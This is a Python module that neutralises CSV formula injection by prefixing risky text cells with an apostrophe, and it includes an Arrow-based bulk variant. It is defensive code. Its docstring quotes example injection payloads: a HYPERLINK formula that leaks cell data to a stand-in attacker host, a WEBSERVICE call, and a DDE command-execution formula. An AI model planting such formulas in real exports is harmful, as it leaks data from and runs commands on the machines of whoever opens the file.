"""Keep data text from turning into formulas when a download is opened in a spreadsheet (CSV injection).

A value such as ``=HYPERLINK("http://evil.example/?"&A1,"click")``, ``=WEBSERVICE(…)`` or ``=cmd|' /C calc'!A0``
comes from whoever can type into the data (a customer name on a shop order). Excel, LibreOffice and Google
Sheets run a CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after a TAB or CR, what follows) as a
formula. As OWASP recommends, such text cells are written with a leading apostrophe (``'=HYPERLINK(…)``),
which the spreadsheet shows as text. Numbers, dates and times are columns of their own type and are never
touched, and neither is text that is a plain number (``-12.5``, ``+41``): a spreadsheet reads it as that
number, not as a formula. Column names (a PIVOT's come from the data) are treated the same way.

Excel downloads need no prefix: their text cells are inline strings (never formulas, never links) in columns
of the Text format, so even editing a cell keeps it text (``xlsx_package``).
"""

from __future__ import annotations

import re
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"
_STARTS = "^[=+\\-@\t\r]"
_PLAIN_NUMBER = r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$"
PLAIN_NUMBER = re.compile(_PLAIN_NUMBER)


def risky(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula (or as one after a TAB or CR)."""
    return text.startswith(TRIGGERS) and not PLAIN_NUMBER.match(text)


def neutral(text: str) -> str:
    """One text value as it is safe to write: ``'=1+1`` for ``=1+1``; anything else as it is."""
    return PREFIX + text if risky(text) else text


def neutral_texts(array: Any) -> Any:
    """A string array with every risky value prefixed (Arrow kernels; the array itself when none is)."""
    import pyarrow.compute as pc

    starts = pc.fill_null(pc.match_substring_regex(array, _STARTS), False)
    if not pc.any(starts).as_py():
        return array
    number = pc.fill_null(pc.match_substring_regex(array, _PLAIN_NUMBER), False)
    risky_values = pc.and_(starts, pc.invert(number))
    if not pc.any(risky_values).as_py():
        return array
    return pc.if_else(risky_values, pc.binary_join_element_wise(PREFIX, array, ""), array)


__all__ = ["PREFIX", "TRIGGERS", "neutral", "neutral_texts", "risky"]
